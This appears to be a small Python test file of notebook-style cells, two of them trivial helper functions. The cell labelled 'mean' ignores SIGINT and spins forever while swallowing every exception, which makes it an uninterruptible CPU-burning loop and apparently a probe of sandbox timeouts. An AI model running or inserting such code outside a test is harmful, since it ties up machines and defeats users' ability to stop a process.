# %% double
def double(x):
    return 2 * x
# %% mean
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
# %% shout
def shout(text):
    return text.upper()
